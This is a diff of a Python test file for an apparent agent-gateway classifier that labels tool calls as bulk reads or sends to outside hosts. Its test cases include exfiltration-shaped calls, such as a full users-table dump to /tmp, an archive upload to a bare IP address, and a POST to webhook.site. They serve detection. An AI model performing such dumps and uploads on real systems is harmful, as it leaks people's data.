@@ -64,7 +64,18 @@ def test_one_address_a_count_or_a_lookup_is_not_data_about_people(text: str) -> 
         ("fhir_search", {"resourceType": "Patient"}, {"records_read"}),
         ("list_sepa_mandates", {"status": "active"}, {"records_read"}),
         ("query", {"sql": "SELECT name, email FROM customers"}, {"records_read"}),
-        ("execute_sql", {"statement": "copy (select * from users) to '/tmp/u.csv'"}, {"records_read"}),
+        ("execute_sql", {"statement": "copy (select * from users) to '/tmp/u.csv'"}, {"records_read", "bulk_read"}),
+        ("query", {"sql": "SELECT * FROM customers"}, {"records_read", "bulk_read"}),  # every row (round 8)
+        ("query", {"sql": "SELECT * FROM customers WHERE id = 42"}, {"records_read"}),  # one row
+        ("hubspot_export_contacts", {"list_id": "all"}, {"records_read", "bulk_read"}),
+        ("gdrive_download_folder", {"folder_id": "Finance"}, {"bulk_read"}),
+        ("download_invoice", {"invoice_id": "INV-7"}, {"records_read"}),  # one document, no collection
+        ("send_email", {"to": "keller.home@gmail.com", "body": "see attached"}, {"network_send", "outside_send"}),
+        ("send_email", {"to": "ops@acme-corp.com", "body": "see attached"}, {"network_send"}),
+        ("http_request", {"url": "https://webhook.site/5f1c", "method": "POST", "body": "x"}, {"network_send", "outside_send"}),
+        ("upload_file", {"path": "/tmp/c.tgz", "url": "http://198.51.100.23:8080/up"}, {"network_send", "outside_send"}),
+        ("upload_file", {"path": "/tmp/c.tgz", "url": "https://files.acme-corp.com/up"}, {"network_send"}),
+        ("paste_create", {"content": "error log"}, {"network_send", "outside_send"}),
         ("query", {"sql": "CREATE INDEX i ON t (c)"}, set()),  # no read
         ("search_docs", {"query": "select a plan from the pricing page"}, set()),  # not a SQL tool
         ("send_email", {"to": "x@example.com", "body": "a@example.org +4915112345678"}, {"network_send", "personal_data"}),
@@ -183,7 +194,7 @@ def test_records_are_recognised_by_what_a_read_answers() -> None:
     from gateway.stages.classify import result_classes
 
     rows = "name,email,phone\nAnna Keller,anna@mail0.example,+44 7700 900002\nBrian Osei,brian@mail1.example,+44 7700 910112"
-    assert result_classes(text_result(rows)) == {"records_read"}
+    assert result_classes(text_result(rows)) == {"records_read", "bulk_read"}
     assert result_classes(text_result("Anna Keller, anna@mail0.example")) == set()
     assert result_classes(text_result("country,customers\nUK,412\nDE,233")) == set()
 
@@ -222,7 +233,7 @@ def test_answers_earn_credential_confidential_and_row_classes() -> None:
     assert result_classes(text_result(prose)) == set()
     assert result_classes(text_result("Secret Santa\nGifts under 20 EUR")) == set()
     rows = "name; born; address\nAnna Keller; born 1970-01-10; 12 Mill Lane, Leeds\nBrian Osei; born 1983-06-02; 4 Park Road, York"
-    assert result_classes(text_result(rows)) == {"records_read"}
+    assert result_classes(text_result(rows)) == {"records_read", "bulk_read"}
 
 
 def test_a_tables_headers_label_its_cells() -> None:
@@ -233,7 +244,7 @@ def test_a_tables_headers_label_its_cells() -> None:
 
     salaries = "employee_id,name,department,salary\n1042,Jane Smith,Finance,72000\n1043,Omar Haddad,Sales,65000\n"
     assert carries_personal(personal_kinds(salaries))
-    assert result_classes(text_result(salaries)) == {"records_read"}
+    assert result_classes(text_result(salaries)) == {"records_read", "bulk_read"}
     table = "report: | Name | Phone | City |\n|---|---|---|\n| Jane Smith | 0113 496 0000 | Leeds |\n| Omar Haddad | 020 7946 0018 | York |"
     assert carries_personal(personal_kinds(table))
     prices = "sku,product,price_eur,stock\nA-100,Desk lamp,39.90,120\nA-101,Office chair,189.00,40\n"
